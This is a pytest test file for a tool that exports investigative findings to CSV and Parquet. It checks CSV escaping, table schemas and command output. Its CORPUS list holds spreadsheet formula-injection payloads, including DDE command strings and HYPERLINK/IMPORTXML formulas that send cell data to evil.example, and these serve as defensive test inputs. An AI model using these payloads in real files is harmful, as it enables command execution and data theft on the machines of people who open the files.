"""Exports as tables: every table in both formats, types kept, and no cell that a spreadsheet runs."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import msgspec
import pandas
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from factory import START, findings

from concerted.cli import main
from concerted.exports import _tables
from concerted.exports.csv import cell, safe
from concerted.findings import Verdict

# what spreadsheets run, and what makes them see a cell where a reader of CSV sees none
CORPUS = [
    "=1+1",
    "+1+1",
    "-1+cmd",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠a",
    " =1",
    "\u200b=1",
    "\ufeff=1",
    "|x",
    "%x",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"here")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "+49 30 =1",
    "-2+3+cmd|' /C calc'!D2",
    'text;=HYPERLINK("https://evil.example")',
    'text";"=1+1',
    "text\n=1+1",
    "text\r\n+cmd|x",
    "text\t@SUM(A1)",
    "text; \u200b＝1",
    "a;-1+1;b",
    "a;\"'=1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "|", "%")


def tables(folder: Path) -> dict[str, Path]:
    """The files of an export, by table."""
    return {
        (path.name.split(".") if path.name.count(".") == 2 else ["", "accounts"])[1]: path
        for path in sorted(folder.iterdir())
    }


@pytest.mark.parametrize("text", CORPUS)
def test_no_cell_is_a_formula_however_it_is_cut(text: str, tmp_path: Path) -> None:
    """Read with a comma, a semicolon or a tab between cells, no cell begins as a formula does."""
    found = findings(texts=[text], links=[text], sentence=text, handles=[f"{text}{n}" for n in range(12)])
    for path in found.export(tmp_path / "found.csv", handles=True):
        for delimiter in ",;\t":
            with path.open(encoding="utf-8-sig", newline="") as file:
                for line in csv.reader(file, delimiter=delimiter):
                    for one in line:
                        bare = one.lstrip(" \ufeff\u200b\"'")
                        # numbers of ours may be negative; they are numbers and nothing else
                        number = one.lstrip("-").replace(".", "").replace("e", "").replace("-", "").isdigit()
                        quoted = one.lstrip(' \ufeff\u200b"').startswith("'")
                        assert quoted or number or not bare.startswith(STARTS), (path.name, delimiter, one)


@pytest.mark.parametrize(
    "value", ["text", "-1", "+3.5e-9", "", None, -4, 2.5, "a=b", "1-2", "so ;-) it", "a; b", "x;y=1", "a - b"]
)
def test_harmless_cells_stay(value: object) -> None:
    assert safe(value) == value


def test_both_formats_hold_every_table(tmp_path: Path) -> None:
    found = msgspec.structs.replace(findings(), verdicts=[Verdict("c-a", "unsure", "=ask them", 1, 0)])
    (tmp_path / "csv").mkdir()
    (tmp_path / "parquet").mkdir()
    found.export(tmp_path / "csv" / "f.csv")
    found.export(tmp_path / "parquet" / "f.parquet")
    sheets, typed = tables(tmp_path / "csv"), tables(tmp_path / "parquet")
    assert set(sheets) == set(typed) == set(_tables.TABLES)
    for name, columns in _tables.TABLES.items():
        sheet = pandas.read_csv(sheets[name])
        table = pq.read_table(typed[name])
        assert list(sheet.columns) == table.column_names == list(columns)
        assert len(sheet) == len(table) > 0, name
        assert [field.type for field in table.schema] == list(columns.values())
        assert table.schema.metadata[b"handles_of_group_members_shown"] == b"false"


def test_rows_say_what_the_document_says(tmp_path: Path) -> None:
    found = findings()
    found.export(tmp_path / "f.parquet")
    read = {name: pq.read_table(path).to_pylist() for name, path in tables(tmp_path).items()}
    first = read["evidence"][0]
    assert first["time_1_utc"] == START.replace(tzinfo=UTC) and first["file_1"] == "export.csv"
    assert (first["answer"], first["group"], first["a"], first["further_in_case"]) == (
        "found",
        "c-a",
        "G1-01",
        7,
    )
    assert first["text_1"] == "اقرأ هذا الآن مع #وسم" and first["counted"] is True
    assert {row["answer"] for row in read["accounts"]} == {
        *("found", "member of a set", "explained", "unresolved")
    }
    assert [row["accounts"] for row in read["groups"]] == [3, 2]
    assert sum(row["acts"] for row in read["timelines"]) == sum(found.timelines[0].counts)
    assert {row["reason"]: row["count"] for row in read["ledger"]}["no time"] == 11
    assert read["inputs"][0]["sha256"] == "ab" * 32 and read["inputs"][0]["left_out"] == 12
    made = {row["name"]: row["value"] for row in read["made"]}
    assert made["who is shown"] == "All accounts have pseudonyms."
    assert json.loads(made["settings of weigh"]) == {"fdr": 0.05}
    assert {row["leans"] for row in read["said"]} == {"limit", "none", "for", "against"}
    assert [row["account"] for row in read["leads"]] == ["L01", "E01"]


def test_texts_in_parquet_are_as_posted(tmp_path: Path) -> None:
    found = findings(texts=["=1+1;=2\n- a list"])
    found.export(tmp_path / "f.parquet")
    found.export(tmp_path / "f.csv")
    assert pq.read_table(tmp_path / "f.evidence.parquet")["text_1"][0].as_py() == "=1+1;=2\n- a list"
    assert pandas.read_csv(tmp_path / "f.evidence.csv")["text_1"][0] == "'=1+1;'=2\n- a list"


def test_values_are_shown_as_people_read_them() -> None:
    assert cell(datetime(2020, 3, 1, 9, 30, tzinfo=UTC)) == "2020-03-01 09:30:00"
    assert cell(datetime(2020, 3, 1, 9, 30, 0, 250_000, tzinfo=UTC)) == "2020-03-01 09:30:00.25"
    assert (cell(["a", "b"]), cell(True), cell(None), cell(3)) == ("a b", "true", None, 3)


def test_handles_are_recorded(tmp_path: Path) -> None:
    findings().export(tmp_path / "f.parquet", handles=True)
    table = pq.read_table(tmp_path / "f.parquet")
    assert table.schema.metadata[b"handles_of_group_members_shown"] == b"true"
    handles = table.filter(pa.compute.is_valid(table["handle"]))
    assert set(handles["answer"].to_pylist()) <= {"found", "member of a set"}
    assert set(handles["group"].to_pylist()) <= {"c-a", "c-b", "set-1"}


def test_the_command_names_every_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (document,) = findings().export(tmp_path / "findings.json")
    targets = [str(tmp_path / name) for name in ("found.csv", "r.html")]
    assert main(["export", str(document), *targets, "--json"]) == 0
    said = json.loads(capsys.readouterr().out)
    assert len(said["written"]) == len(_tables.TABLES) + 1 and said["handles"] is False
    assert {str(path) for path in tmp_path.iterdir()} == {*said["written"], str(document)}
